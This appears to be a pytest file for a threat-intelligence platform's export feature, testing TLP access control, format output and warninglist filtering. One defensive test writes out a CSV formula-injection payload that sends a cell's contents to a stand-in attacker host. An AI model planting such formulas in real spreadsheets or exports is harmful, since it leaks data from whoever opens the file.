import base64
import csv
import io
import json

import pytest

from lionrock.core.accounts.access import NotFound
from lionrock.cyber.exchange import exporting, writers
from lionrock.cyber.intel import services as intel
from lionrock.cyber.intel.tlp import Tlp
from tests.cyber.intel.factories import VIEWERS, VISIBILITY, indicator

pytestmark = pytest.mark.django_db
ALL_FORMATS = [("stix", ""), ("misp", ""), ("csv", ""), ("zeek", ""), ("suricata-dataset", "domain"),
               ("suricata-iprep", ""), ("list", "domain")]  # fmt: skip


def _text(actor, collection, fmt, kind="", *, include_warninglisted=True):
    """The export as text. The addresses here are documentation ranges, which MISP warninglists name:
    tests of TLP and of formats keep them; the warninglist tests below ask for the default."""
    job = exporting.export_open(
        actor=actor, collection=collection, fmt=fmt, kind=kind, include_warninglisted=include_warninglisted
    )
    return "".join(job.chunks)


def _seed_one_per_tlp(community):
    """A domain and an address at each TLP; returns what each format shows of each level."""
    values = {
        tlp: (f"{tlp.value.replace('+', '-')}-only.example", f"198.51.100.{rank}")
        for rank, tlp in enumerate(Tlp)
    }
    objects = []
    for tlp, (domain, address) in values.items():
        objects += [
            indicator(domain, tlp=tlp),
            indicator(pattern=f"[ipv4-addr:value = '{address}']", tlp=tlp),
        ]
    intel.objects_add(actor=community.creator, collection=community.collection, objects=objects)
    return values


@pytest.mark.parametrize(("fmt", "kind"), ALL_FORMATS)
@pytest.mark.parametrize("viewer", [v for v in VIEWERS if v not in ("no_intel_role", "platform_admin")])
def test_an_export_holds_exactly_what_the_tlp_lets_the_requester_see(community, viewer, fmt, kind):
    values = _seed_one_per_tlp(community)
    actor = getattr(community, viewer)
    try:
        text = _text(actor, community.collection, fmt, kind)
    except NotFound:
        assert viewer == "outsider"  # a collection the outsider cannot read does not exist for it
        return
    if fmt == "suricata-dataset":
        text = "\n".join(base64.b64decode(line).decode() for line in text.split())
    for tlp, (domain, address) in values.items():
        shown = address if fmt == "suricata-iprep" else domain
        assert (shown in text) == (viewer in VISIBILITY[tlp]), (tlp, viewer)
        assert (address in text) <= (viewer in VISIBILITY[tlp]), (tlp, viewer)


@pytest.mark.parametrize("viewer", ["no_intel_role", "platform_admin"])
def test_people_without_an_intel_role_cannot_export(community, viewer):
    _seed_one_per_tlp(community)
    with pytest.raises(NotFound):
        _text(getattr(community, viewer), community.collection, "stix")


def test_the_stix_export_is_a_bundle_of_the_stored_objects(community):
    obj = indicator("bundle.example", tlp=Tlp.GREEN)
    intel.objects_add(actor=community.creator, collection=community.collection, objects=[obj])
    document = json.loads(_text(community.creator, community.collection, "stix"))
    assert document["type"] == "bundle" and document["objects"] == [obj]


def test_value_formats_carry_each_kind_in_the_form_its_tool_expects(community):
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[
            indicator("zeek.example", tlp=Tlp.GREEN),
            indicator(pattern="[ipv4-addr:value = '198.51.100.0/24']", tlp=Tlp.GREEN),
            indicator(pattern="[file:hashes.'SHA-256' = '" + "A" * 64 + "']", tlp=Tlp.GREEN),
            indicator(pattern="[url:value = 'http://evil.example/a']", tlp=Tlp.GREEN),
        ],
    )
    zeek = _text(community.creator, community.collection, "zeek").splitlines()
    assert zeek[0] == "#fields\tindicator\tindicator_type\tmeta.source\tmeta.desc\tmeta.url"
    types = {line.split("\t")[0]: line.split("\t")[1] for line in zeek[1:]}
    assert types == {
        "zeek.example": "Intel::DOMAIN",
        "198.51.100.0/24": "Intel::SUBNET",
        "a" * 64: "Intel::FILE_HASH",
        "evil.example/a": "Intel::URL",
    }
    assert _text(community.creator, community.collection, "suricata-iprep") == "198.51.100.0/24,1,100\n"
    dataset = _text(community.creator, community.collection, "suricata-dataset", "domain")
    assert base64.b64decode(dataset.strip()).decode() == "zeek.example"
    assert _text(community.creator, community.collection, "list", "sha256") == "a" * 64 + "\n"
    rows = list(csv.DictReader(io.StringIO(_text(community.creator, community.collection, "csv"))))
    assert {row["kind"] for row in rows} == {"domain", "cidr", "sha256", "url"}


def test_revoked_expired_and_compound_indicators_stay_out_of_value_lists(community):
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[
            indicator("revoked.example", tlp=Tlp.GREEN, revoked=True),
            indicator("expired.example", tlp=Tlp.GREEN, valid_until="2025-03-02T00:00:00.000Z"),
            indicator(
                pattern="[domain-name:value = 'half.example'] AND [ipv4-addr:value = '203.0.113.1']",
                tlp=Tlp.GREEN,
            ),
            indicator("kept.example", tlp=Tlp.GREEN),
        ],
    )
    assert _text(community.creator, community.collection, "list", "domain") == "kept.example\n"


def test_the_misp_export_is_an_event_with_tlp_tags(community):
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[indicator("misp.example", tlp=Tlp.AMBER)],
    )
    event = json.loads(_text(community.creator, community.collection, "misp"))["Event"]
    attribute = event["Attribute"][0]
    assert (attribute["type"], attribute["value"]) == ("domain", "misp.example")
    assert {"name": "tlp:amber"} in attribute["Tag"]


def test_a_list_export_needs_a_kind(community):
    from lionrock.core.errors import ValidationFailed

    with pytest.raises(ValidationFailed):
        exporting.export_open(actor=community.creator, collection=community.collection, fmt="list")


def test_exports_stream_in_chunks_without_loading_the_collection(community):
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[indicator(f"n{i}.example", tlp=Tlp.GREEN) for i in range(30)],
    )
    chunks = exporting.export_open(
        actor=community.creator, collection=community.collection, fmt="stix"
    ).chunks
    assert next(chunks).startswith('{"type":"bundle"')
    assert sum(1 for _ in chunks) == 31
    assert writers.FORMATS


def test_a_misp_export_too_large_for_one_event_is_refused_with_the_alternative(community, monkeypatch):
    from lionrock.core.errors import ValidationFailed

    monkeypatch.setattr(exporting, "MISP_EXPORT_MAX", 1)
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[indicator("a.example", tlp=Tlp.GREEN), indicator("b.example", tlp=Tlp.GREEN)],
    )
    with pytest.raises(ValidationFailed, match="STIX bundle"):
        exporting.export_open(actor=community.creator, collection=community.collection, fmt="misp")


def test_a_formula_in_an_indicator_name_reaches_csv_and_zeek_as_text(community):
    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[indicator("formula.example", tlp=Tlp.GREEN, name=name)],
    )
    rows = list(csv.DictReader(io.StringIO(_text(community.creator, community.collection, "csv"))))
    assert [row["name"] for row in rows] == ["'" + name]
    zeek = _text(community.creator, community.collection, "zeek").splitlines()
    assert zeek[1].split("\t")[3].startswith("'=HYPERLINK(")


@pytest.mark.parametrize(("fmt", "kind"), [("zeek", ""), ("suricata-iprep", ""), ("list", "ip")])
def test_blocking_exports_leave_out_warninglisted_values_unless_asked(community, fmt, kind):
    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[
            indicator(pattern="[ipv4-addr:value = '8.8.8.8']", tlp=Tlp.GREEN),
            indicator(pattern="[ipv4-addr:value = '91.240.118.172']", tlp=Tlp.GREEN),
        ],
    )
    job = exporting.export_open(actor=community.creator, collection=community.collection, fmt=fmt, kind=kind)
    text = "".join(job.chunks)
    assert "91.240.118.172" in text and "8.8.8.8" not in text
    assert job.warninglisted == 1
    everything = exporting.export_open(
        actor=community.creator,
        collection=community.collection,
        fmt=fmt,
        kind=kind,
        include_warninglisted=True,
    )
    assert "8.8.8.8" in "".join(everything.chunks) and everything.warninglisted == 0


def test_the_export_api_says_how_many_warninglisted_values_it_left_out(community):
    from django.test import Client

    from tests.cyber.intel.test_api import bearer

    intel.objects_add(
        actor=community.creator,
        collection=community.collection,
        objects=[indicator(pattern="[ipv4-addr:value = '8.8.8.8']", tlp=Tlp.GREEN)],
    )
    response = Client().get(
        f"/api/exchange/exports/{community.collection.alias}",
        {"format": "suricata-iprep"},
        headers=bearer(community.creator),
    )
    assert response["X-Lionrock-Warninglisted"] == "1"
    assert b"".join(response.streaming_content) == b""
